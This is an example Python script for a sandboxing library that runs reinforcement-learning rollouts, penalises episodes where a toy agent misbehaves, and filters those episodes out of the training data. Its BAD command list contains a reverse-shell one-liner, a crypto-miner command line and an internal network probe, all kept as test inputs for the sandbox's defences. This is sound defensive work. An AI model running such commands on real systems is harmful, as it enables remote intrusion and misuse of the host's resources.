"""An async rollout loop in the style of verl / SkyRL, on corral, with its trajectories filtered at the end.

A toy policy picks shell commands from a small list (mostly benign, a few that a rogue agent would
run: a miner's command line, a probe of an internal address, a reverse shell). N episodes run
concurrently, at most --concurrency at a time (an asyncio semaphore), each in a fresh sandbox from
a warm pool, labelled run/episode. The reward is the task's, less corral's penalty for the episode's
verdict. Every trajectory (episode label, commands, outputs, reward) is written as a JSON line; at
the end `corral filter`'s function looks each episode up in the audit store and drops the violated
ones from the training data, as ROME's report asks ("safety-aligned data filtering").

    sudo .venv/bin/python examples/rollout.py --episodes 20

Nothing leaves the machine: the bad commands aim at private addresses, which corral's fence refuses.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import random
import secrets
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path

from corral import CorralError, Host, Policy, Pool, SandboxClosedError
from corral.rl import filter_trajectories, penalty

# The toy policy's action space: (kind, command). The kind is for the reader; corral never sees it.
BENIGN = [
    "echo 'hello' > notes.txt && cat notes.txt",
    "python3 -c 'print(sum(range(100000)))'",
    "printf 'def f():\\n    return 41 + 1\\n' > m.py && python3 -c 'import m; print(m.f())'",
    "ls -la /workspace",
    "for i in 1 2 3; do echo line $i; done | wc -l",
    "echo '{\"ok\": true}' | python3 -m json.tool",
]
BAD = [
    # a miner's command line (killed at exec, before it runs)
    "python3 -c pass -o stratum+tcp://pool.example.internal:3333 -u wallet.rig --donate-level 1",
    # probing the internal network (refused by the fence, alerted)
    "ncat -w 1 10.0.0.5 22 </dev/null",
    # a reverse shell (refused by the fence; the sandbox is terminated)
    "bash -c 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'",
]


@dataclass
class Trajectory:
    run: str
    episode: str
    commands: list[str] = field(default_factory=list)
    outputs: list[str] = field(default_factory=list)
    exit_codes: list[int] = field(default_factory=list)
    reward: float = 0.0
    error: str | None = None  # corral or the host failed (not the agent): set aside, not dropped


def toy_policy(rng: random.Random, p_bad: float) -> str:
    """The 'model': a benign command, or now and then a bad one."""
    return rng.choice(BAD) if rng.random() < p_bad else rng.choice(BENIGN)


async def rollout(pool: Pool, run: str, episode: int, steps: int, p_bad: float, seed: int) -> Trajectory:
    rng = random.Random(f"{seed}:{episode}")
    traj = Trajectory(run=run, episode=str(episode))
    sandbox = None
    try:
        # A warm sandbox from the pool, labelled with the episode; closed (never reused) at the end.
        async with pool.episode(labels={"episode": str(episode)}) as sb:
            sandbox = sb.sandbox
            for _ in range(steps):
                command = toy_policy(rng, p_bad)
                traj.commands.append(command)
                try:
                    r = await sb.exec(command, timeout=10, text=True)
                except SandboxClosedError:
                    # A tripwire terminated the sandbox under the previous command: the episode is over.
                    traj.commands.pop()
                    break
                assert isinstance(r.stdout, str) and isinstance(r.stderr, str)
                traj.outputs.append((r.stdout + r.stderr)[-2000:])
                traj.exit_codes.append(r.exit_code)
                if r.terminated is not None:
                    break
    except CorralError as e:
        traj.error = f"{type(e).__name__}: {e}"
    # The task's reward: the share of commands that succeeded, less corral's penalty for what the
    # agent did (the default table: 10 for a critical alert, 5 for a high one, ...). The sandbox is
    # closed here, so its verdict is final. The filter below also drops violated episodes.
    traj.reward = sum(c == 0 for c in traj.exit_codes) / steps
    if sandbox is not None:
        traj.reward -= penalty(sandbox.verdict())
    return traj


async def rollouts(args: argparse.Namespace, pool: Pool, run: str) -> list[Trajectory]:
    bound = asyncio.Semaphore(args.concurrency)

    async def one(i: int) -> Trajectory:
        async with bound:
            return await rollout(pool, run, i, args.steps, args.p_bad, args.seed)

    return await asyncio.gather(*(one(i) for i in range(args.episodes)))


@contextlib.contextmanager
def host_for(store: str | None) -> Iterator[Host | None]:
    """A host of the script's own when it records into a store of its own; else corral's default."""
    if store is None:
        yield None
        return
    with Host(store=store) as host:
        yield host


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--episodes", type=int, default=200)
    ap.add_argument("--concurrency", type=int, default=32, help="episodes at a time (default 32)")
    ap.add_argument("--pool", type=int, default=16, help="sandboxes kept warm (default 16)")
    ap.add_argument("--steps", type=int, default=4, help="commands per episode (default 4)")
    ap.add_argument("--p-bad", type=float, default=0.08, help="chance a step is a bad command (default 0.08)")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--policy", help="a policy file (default: corral's offline policy)")
    ap.add_argument("--store", help="audit store (default: CORRAL_STORE or /var/lib/corral/audit.db)")
    ap.add_argument("--out", help="trajectories, JSON lines (default: a new temporary directory)")
    ap.add_argument("--kept", help="the trajectories kept after filtering (default: beside --out)")
    args = ap.parse_args(argv)

    run = f"rollout-{time.strftime('%Y%m%d-%H%M%S')}-{secrets.token_hex(2)}"
    out = Path(args.out) if args.out else Path(tempfile.mkdtemp(prefix="corral-rollout-")) / f"{run}.jsonl"
    kept_path = Path(args.kept) if args.kept else out.with_suffix(".kept.jsonl")
    policy = Policy.load(args.policy) if args.policy else Policy.default()

    started = time.monotonic()
    with host_for(args.store) as host:
        # A warm pool: `--pool` sandboxes kept started, each episode handed one in about a
        # millisecond, and a fresh one started in its place when the episode ends.
        with Pool(policy, size=args.pool, host=host, labels={"run": run}) as pool:
            trajectories = asyncio.run(rollouts(args, pool, run))
        # Every sandbox is closed, so its events are committed: the store has each episode's verdict.
        where = host.audit.where if host is not None else None
        elapsed = time.monotonic() - started
        with out.open("w") as f:
            for t in trajectories:
                f.write(json.dumps(asdict(t)) + "\n")
        # `corral filter` as a function: clean episodes kept, violated ones dropped, infra_error ones
        # (and any the store doesn't know) set aside, each looked up by the run and episode labels.
        summary = filter_trajectories(
            [out], store=where, field="episode", labels={"run": run}, output=kept_path, progress=False
        )
    print(f"run {run}: {len(trajectories)} episodes in {elapsed:.1f}s ({len(trajectories) / elapsed:.1f}/s)")
    print("\n".join(summary.text()))
    print(f"  trajectories: {out}\n  kept: {kept_path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
